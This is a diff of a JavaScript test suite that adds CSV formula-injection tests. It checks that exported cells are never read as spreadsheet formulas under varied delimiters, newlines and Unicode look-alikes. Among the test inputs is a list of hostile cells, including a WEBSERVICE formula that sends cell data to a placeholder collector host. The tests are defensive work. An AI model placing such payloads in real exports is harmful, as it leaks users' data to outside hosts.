@@ -4,6 +4,7 @@
 import assert from "node:assert/strict";
 import { readFile } from "node:fs/promises";
 import { before, beforeEach, describe, test } from "node:test";
+import papa from "papaparse";
 import { createSandbox } from "refund-signer/sandbox";
 import * as signer from "refund-signer/slim";
 import { digestOf } from "../../examples/edge-signer/digest.js";
@@ -58,15 +59,96 @@ describe("CSV", () => {
     const rows = [
       ['a "b"', "c,d\ne"],
       ["=1+1", "plain"],
+      ["a=b; c-d", "1,-2"],
     ];
     const read = (await parseCsv(await writeCsv(["x", "y"], rows))).map(({ cells }) => cells);
     assert.deepEqual(read, [
       ["x", "y"],
       ['a "b"', "c,d\ne"],
       ["'=1+1", "plain"],
+      ["a=b; c-d", "1,-2"],
     ]);
   });
+
+  describe("no cell is a formula, whatever a spreadsheet takes for the end of a cell", () => {
+    const HOSTILE = [
+      ...["=1+1", "+1", "-1", "@SUM(1)", "＝1+1", "＋1", "－1", "＠SUM(1)"],
+      ...["\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\u00a0=1+1", "\ufeff=1+1", "\u0000=1+1", '"=1+1'],
+      ...[
+        "\tx",
+        "\rx",
+        "x\n=1+1",
+        "x\r=1+1",
+        "x\r\n=1+1",
+        "x\t=1+1",
+        "ok;=1+1;",
+        "ok; =1+1;",
+        "ok;;=1+1;",
+        "ok;\n;＝1+1;",
+      ],
+      ...['ok;"=1+1;"', 'ok;""=1+1;', "a,b\n=1+1\n", '=WEBSERVICE("http://collector.example/?"&B2)\n', "+2+5\n-1"],
+    ];
+    const FORMULA = /^[\p{Z}\p{C}]*[=+\-@＝＋－＠]|^[\t\r]\S/u;
+    const isFormula = (cell) => FORMULA.test(cell);
+
+    for (const [name, delimiter] of [
+      ["commas", ","],
+      ["semicolons", ";"],
+      ["tabs", "\t"],
+    ]) {
+      test(`with ${name} between the cells`, async () => {
+        for (const cell of HOSTILE) {
+          const file = await writeCsv(
+            ["#note", `#x${cell}`, "#y"],
+            [
+              ["x", cell, "y"],
+              [cell, "x", cell],
+            ],
+          );
+          for (const newline of ["\n", "\r", "\r\n"]) {
+            const { data } = papa.parse(file, { delimiter, newline });
+            const found = [...data.flat(), ...cellsOf(file, delimiter)].filter(isFormula);
+            assert.deepEqual(found, [], JSON.stringify(cell));
+          }
+        }
+      });
+    }
+
+    test("and with commas every cell comes back, with apostrophes at most", async () => {
+      for (const cell of HOSTILE) {
+        const { data } = papa.parse(await writeCsv(["#note", "#x"], [[cell, "x"]]), {
+          delimiter: ",",
+          newline: "\r\n",
+        });
+        assert.equal(data[1][0].replaceAll("'", ""), cell);
+        assert.equal(data[1][1], "x");
+      }
+    });
+
+    test("this check can fail", () => {
+      assert.ok(cellsOf('x,"ok;=1+1;",y', ";").some(isFormula));
+      assert.ok(cellsOf('x,"ok;""=1+1;",y', ";").some(isFormula));
+    });
+  });
 });
+
+/** The cells as a spreadsheet takes them: a quote counts where a cell begins with it, and what stands behind its end is text. */
+function cellsOf(file, delimiter) {
+  const cells = [""];
+  let isQuoted = false;
+  for (let at = 0; at < file.length; at += 1) {
+    const char = file[at];
+    const isFirst = cells.at(-1) === "" && (at === 0 || [delimiter, "\r", "\n"].includes(file[at - 1]));
+    if (char === '"' && !isQuoted && isFirst) isQuoted = true;
+    else if (char === '"' && isQuoted && file[at + 1] === '"') {
+      cells[cells.length - 1] += char;
+      at += 1;
+    } else if (char === '"' && isQuoted) isQuoted = false;
+    else if (!isQuoted && [delimiter, "\r", "\n"].includes(char)) cells.push("");
+    else cells[cells.length - 1] += char;
+  }
+  return cells;
+}
 
 describe("totals", () => {
   test("are exact beyond what a float holds", () => {
